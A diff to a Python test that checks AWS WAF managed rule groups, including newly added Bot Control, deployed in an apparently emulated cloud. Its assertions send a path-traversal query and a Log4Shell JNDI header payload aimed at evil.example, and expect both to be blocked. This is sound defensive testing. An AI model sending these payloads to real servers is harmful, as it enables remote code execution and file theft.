@@ -256,15 +256,35 @@ def test_aws_managed_rule_groups_in_a_stack_filter_its_api(labcloud: LabcloudPro
             "OverrideAction": {"None": {}},
             "VisibilityConfig": vis("kbi"),
         },
+        {
+            "Name": "AWS-AWSManagedRulesBotControlRuleSet",
+            "Priority": 2,
+            "Statement": {
+                "ManagedRuleGroupStatement": {
+                    "VendorName": "AWS",
+                    "Name": "AWSManagedRulesBotControlRuleSet",
+                    "ManagedRuleGroupConfigs": [
+                        {"AWSManagedRulesBotControlRuleSet": {"InspectionLevel": "COMMON"}}
+                    ],
+                    "RuleActionOverrides": [
+                        {"Name": "CategoryHttpLibrary", "ActionToUse": {"Count": {}}},
+                        {"Name": "SignalNonBrowserUserAgent", "ActionToUse": {"Count": {}}},
+                    ],
+                }
+            },
+            "OverrideAction": {"None": {}},
+            "VisibilityConfig": vis("bots"),
+        },
     ]
     cfn = labcloud.boto3_client("cloudformation")
     cfn.create_stack(StackName="managed-ok", TemplateBody=json.dumps(body))
     stack = wait_stack(cfn, "managed-ok")
     assert stack["StackStatus"] == "CREATE_COMPLETE", events(cfn, "managed-ok")
     out = {o["OutputKey"]: o["OutputValue"] for o in stack["Outputs"]}
-    assert out["Capacity"] == "902"  # 700 + 200 + the scope-down byte match's 2
+    assert out["Capacity"] == "952"  # 700 + 200 + the scope-down byte match's 2 + Bot Control's 50
     api = out["Api"]
-    assert call(labcloud, api)[0] == 200
+    assert call(labcloud, api)[0] == 200  # urllib's User-Agent: an HTTP library, counted by the overrides
+    assert call(labcloud, api, User_Agent="Scrapy/2.11")[0] == 403  # CategoryScrapingFramework
     assert call(labcloud, api, "/items?q=" + "a" * 2100)[0] == 200  # excluded: counted only
     assert call(labcloud, api, "/items?f=..%2F..%2Fkeys")[0] == 403  # GenericLFI_QUERYARGUMENTS
     assert call(labcloud, api, X_Api="${jndi:ldap://evil.example/a}")[0] == 403  # Log4JRCE_HEADER
